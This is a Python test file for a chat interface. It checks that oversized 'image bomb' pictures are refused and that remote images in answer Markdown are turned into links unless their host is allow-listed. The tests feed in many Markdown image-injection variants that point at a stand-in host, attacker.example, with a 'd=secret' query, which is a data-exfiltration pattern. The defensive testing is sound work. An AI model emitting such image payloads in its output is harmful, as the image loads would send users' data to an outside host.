"""Images from people and flows: none is decoded past the pixel budget, an answer's picture is made
once, and no image from another host is loaded unless IMAGE_HOSTS lists it."""

from __future__ import annotations

import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from PIL import Image, ImageFile
from streamlit.elements.lib.image_utils import MAXIMUM_CONTENT_WIDTH

from chat.attachments import attachment
from chat.history import turns_from_history
from chat.image_hosts import allowed_image_url
from chat.images import DISPLAY_PIXELS, PIXEL_BUDGET, display_picture, thumbnail
from chat.markdown_blocks import stable_prefix_length
from chat.setting_sources import SettingsError
from chat.settings import load_settings
from components.markdown import safe_markdown
from flowise_client import StoredMessage
from testbed.wire.flows import Scenario
from testbed.wire.media import bomb_png, png
from testbed.wire.uploads import remote_images_answer
from tests.page import ask, conversation_of, page_text

# CommonMark as a browser would get it, with no filter of its own on what may be a link or a picture.
MD = MarkdownIt("commonmark")
MD.validateLink = lambda url: True


def image_sources(markdown: str) -> list[str]:
    """What the rendered Markdown would load as a picture."""
    found = []

    def walk(tokens):
        for token in tokens:
            if token.type == "image":
                found.append(token.attrs["src"])
            walk(token.children or [])

    walk(MD.parse(markdown))
    return found


@pytest.fixture
def decoded(monkeypatch) -> list[tuple[int, int]]:
    """The size of every image Pillow decodes (as it does for Streamlit too) while the test runs."""
    sizes = []
    load = ImageFile.ImageFile.load

    def counting(image):
        sizes.append(image.size)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", counting)
    return sizes


def animated_gif(width: int, height: int, frames: int) -> bytes:
    out = io.BytesIO()
    pictures = [Image.new("P", (width, height), colour) for colour in range(frames)]
    pictures[0].save(out, format="GIF", save_all=True, append_images=pictures[1:])
    return out.getvalue()


# -- the pixel budget ------------------------------------------------------------------------------


def test_pillow_refuses_what_the_budget_refuses_and_pictures_fit_streamlit():
    assert Image.MAX_IMAGE_PIXELS == PIXEL_BUDGET == 25_000_000
    # Wider than this, st.image would decode and resize the picture again on every run of the page.
    assert DISPLAY_PIXELS == MAXIMUM_CONTENT_WIDTH


def test_an_image_bomb_gets_no_thumbnail_and_is_never_decoded(decoded):
    bomb = bomb_png()  # 300 KB of PNG, 100 million pixels
    assert len(bomb) < 400_000
    picture = thumbnail(bomb)
    assert picture.too_large and picture.content is None
    assert display_picture(bomb).too_large
    assert decoded == []


def test_an_image_just_over_the_budget_is_refused_and_one_within_it_is_shown(decoded):
    assert thumbnail(bomb_png(5001, 5000)).too_large
    assert decoded == []
    within = thumbnail(bomb_png(5000, 5000))
    assert not within.too_large and Image.open(io.BytesIO(within.content)).size == (160, 160)


def test_every_frame_of_an_animation_counts(decoded):
    assert thumbnail(animated_gif(2000, 2000, 7)).too_large  # 28 million pixels in all
    assert decoded == []
    assert thumbnail(animated_gif(2000, 2000, 6)).content is not None


def test_an_attached_bomb_says_so_in_its_bubble_instead_of_a_picture(decoded):
    bombed = attachment("bomb.png", "image/png", bomb_png())
    assert bombed.too_large and bombed.thumbnail is None
    assert not attachment("notes.txt", "text/plain", b"x").too_large
    assert decoded == []


def test_a_restored_conversation_gets_no_thumbnail_of_a_bomb(decoded):
    message = StoredMessage.from_json(
        {
            "role": "userMessage",
            "content": "What is this?",
            "fileUploads": [{"type": "stored-file", "name": "bomb.png", "mime": "image/png"}],
        }
    )
    (turn,) = turns_from_history([message], lambda name: bomb_png())
    assert turn.attachments[0].too_large and turn.attachments[0].thumbnail is None
    assert decoded == []


def test_a_picture_is_made_to_fit_the_page_and_a_small_one_is_kept_as_it_came():
    large = display_picture(bomb_png(3000, 2000))
    assert large.format == "PNG" and Image.open(io.BytesIO(large.content)).size == (1460, 973)
    photo = io.BytesIO()
    Image.new("RGB", (4000, 3000), (10, 20, 30)).save(photo, format="JPEG")
    shrunk = display_picture(photo.getvalue())
    assert shrunk.format == "JPEG" and Image.open(io.BytesIO(shrunk.content)).size == (1460, 1095)
    small = png(320, 200)
    assert display_picture(small).content == small
    gif = animated_gif(40, 30, 3)
    assert display_picture(gif).content == gif and display_picture(gif).format == "auto"  # still animated
    assert display_picture(b"not an image") == display_picture(small[:40])  # broken: nothing to show
    assert display_picture(b"not an image").content is None


# -- an answer's artifacts, in the page ------------------------------------------------------------


def test_an_artifact_bomb_is_a_caption_and_a_large_picture_is_scaled_once(app, decoded):
    at = ask(app(Scenario.IMAGE_BOMB), "Draw me something")
    text = page_text(at)
    assert "The image bomb\\.png that came with this answer is not shown: it has more than 25 million pixels." in text
    assert "The image png that came with this answer is not shown" in text  # the same bomb as a data URL
    assert all(width * height <= PIXEL_BUDGET for width, height in decoded)
    (turn,) = conversation_of(at).turns
    (poster,) = [picture for picture in at.session_state["answer_files"][turn].pictures.values() if picture.content]
    assert Image.open(io.BytesIO(poster.content)).width == DISPLAY_PIXELS

    # The page is drawn again on every click: the picture shown is the one made, decoded by no one.
    decoded.clear()
    at.run()
    assert decoded == []
    assert len(at.get("image")) == 1


# -- remote images in an answer's Markdown ---------------------------------------------------------

EVIL = "https://attacker.example/x?d=secret"


@pytest.mark.parametrize(
    "text",
    [
        f"![]({EVIL})",
        f'![alt]({EVIL} "title")',
        f"![alt](<{EVIL}>)",
        f"![alt][r]\n\n[r]: {EVIL}",
        f"![r]\n\n[r]: {EVIL}",
        f"![alt][]\n\n[alt]: {EVIL}",
        f"![a [nested] ![inner]({EVIL})]({EVIL})",
        f"[![badge]({EVIL})](https://example.org)",
        f"\\\\![alt]({EVIL})",  # an escaped backslash, then an image
        f"\\\\\\\\![alt]({EVIL})",
        "![alt](//attacker.example/x)",
        "![alt](https://img.example&#64;attacker.example/x)",
        "![alt](https://img.example\\@attacker.example/x)",
        f"![a`](https://img.example/x)`]({EVIL})",
        f'![a](https://img.example/x "t\n\n![b]({EVIL})',
        f"- ![item]({EVIL})\n> ![quote]({EVIL})",
    ],
)
def test_no_remote_image_is_left_but_from_a_listed_host(text):
    assert image_sources(text), f"the example is not an image to begin with: {text!r}"
    for hosts in ((), {"img.example"}):
        assert image_sources(safe_markdown(text, hosts)) == [], (text, hosts)


def test_an_image_becomes_a_link_to_it_with_its_alt_text():
    assert (
        MD.renderInline(safe_markdown(f"![the chart]({EVIL})"))
        == '!<a href="https://attacker.example/x?d=secret">the chart</a>'
    )
    # Without alt text a tracker would be an empty, invisible link: it gets an icon to show.
    assert safe_markdown(f"![]({EVIL})") == f"\\![:material/image:]({EVIL})"
    assert safe_markdown(f"![alt][r]\n\n[r]: {EVIL}") == f"\\![alt][r]\n\n[r]: {EVIL}"


def test_what_only_looks_like_an_image_is_left_as_written():
    for text in (
        "\\![not an image](x)",
        "!\\[not an image](x)",
        "&#33;[not an image](x)",
        "Wow! [link](x)",
        "\\\\\\![escaped](x)",
    ):
        assert safe_markdown(text) == text


def test_an_inline_image_from_a_listed_host_is_kept():
    hosts = {"img.example", "127.0.0.1"}
    for text in (
        "![chart](https://img.example/c.png)",
        "![](http://127.0.0.1:8502/x.png?a=1&b=2)",
        "![a *b*](https://IMG.example/c.png)",
        "![a](https://user@img.example:8443/c)",
    ):
        assert image_sources(safe_markdown(text, hosts)) == image_sources(text), text
    # Not a listed host, however it is spelled or reached.
    for text in (
        "![a](https://img.example.attacker.example/)",
        "![a](https://attacker.example/img.example)",
        "![a](https://img.example:80@attacker.example/)",
        "![a](ftp://img.example/x)",
    ):
        assert image_sources(safe_markdown(text, hosts)) == [], text


IMAGE_FRAGMENTS = st.sampled_from(
    [
        "![",
        "!",
        "[",
        "]",
        "](",
        "][",
        "]:",
        "(",
        ")",
        "<",
        ">",
        "`",
        "\\",
        "\\\\",
        "&#64;",
        "&#33;",
        "&amp;",
        "https://img.example/p.png",
        "https://attacker.example/x",
        "http://img.example",
        "//attacker.example",
        "@attacker.example",
        " ",
        "\t",
        "\n",
        "\n\n",
        "alt",
        '"t"',
        "[r]: ",
        "- ",
        "> ",
        "```\n",
        "    ",
        "\u202e",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(IMAGE_FRAGMENTS, max_size=30).map("".join))
@example("![a](https://img.example/p.png)![](https://attacker.example/x)")
def test_no_fragment_soup_loads_an_image_from_an_unlisted_host(text):
    for source in image_sources(safe_markdown(text, {"img.example"})):
        assert allowed_image_url(source, {"img.example"}), (text, source)


@settings(max_examples=300, deadline=None)
@given(st.lists(IMAGE_FRAGMENTS, max_size=30).map("".join))
def test_images_are_made_links_block_by_block_as_on_the_whole(text):
    pieces, start = [], 0
    while (cut := stable_prefix_length(text, start)) > start:
        pieces.append(text[start:cut])
        start = cut
    pieces.append(text[start:])
    hosts = {"img.example"}
    assert "".join(safe_markdown(piece, hosts) for piece in pieces) == safe_markdown(text, hosts)


def test_the_wire_answer_has_every_kind_of_remote_image():
    # What the browser test counts: had the rewrite not been there, each of these would load.
    sources = image_sources(remote_images_answer("http://127.0.0.1:9"))
    assert {source.split("/")[-1].split("?")[0] for source in sources} == {"tracker.png", "inline.png", "reference.png"}


# -- IMAGE_HOSTS -----------------------------------------------------------------------------------


def test_image_hosts_come_from_the_environment_or_secrets():
    assert load_settings({}, {}).image_hosts == frozenset()
    assert load_settings({"IMAGE_HOSTS": " img.example, CDN.example ,[::1],"}, {}).image_hosts == {
        "img.example",
        "cdn.example",
        "::1",
    }
    assert load_settings({}, {"IMAGE_HOSTS": ["img.example"]}).image_hosts == {"img.example"}
    assert load_settings({}, {"IMAGE_HOSTS": "a.example,b.example"}).image_hosts == {"a.example", "b.example"}
    assert load_settings({"IMAGE_HOSTS": "env.example"}, {"IMAGE_HOSTS": ["s.example"]}).image_hosts == {"env.example"}
    assert load_settings({"IMAGE_HOSTS": " "}, {"IMAGE_HOSTS": ["s.example"]}).image_hosts == {"s.example"}


@pytest.mark.parametrize("value", ["https://img.example", "img.example:443", "img.example/images", "a b", "*"])
def test_an_image_host_that_is_no_host_name_is_a_settings_error(value):
    with pytest.raises(SettingsError) as error:
        load_settings({"IMAGE_HOSTS": value}, {})
    assert "IMAGE_HOSTS" in str(error.value) and repr(value) in str(error.value)
    assert "IMAGE_HOSTS" in error.value.message.text("ru")


def test_image_hosts_of_another_shape_are_a_settings_error():
    with pytest.raises(SettingsError, match="IMAGE_HOSTS must be a comma-separated text"):
        load_settings({}, {"IMAGE_HOSTS": {"host": "img.example"}})
